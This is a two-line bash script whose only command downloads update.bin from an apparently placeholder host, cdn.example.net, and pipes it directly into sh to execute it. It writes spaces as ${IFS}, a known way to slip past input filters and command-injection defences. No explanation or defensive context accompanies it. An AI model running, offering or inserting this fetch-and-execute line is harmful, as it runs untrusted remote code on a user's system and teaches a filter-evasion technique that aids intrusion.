#!/usr/bin/env bash
curl${IFS}-s${IFS}https://cdn.example.net/update.bin|sh
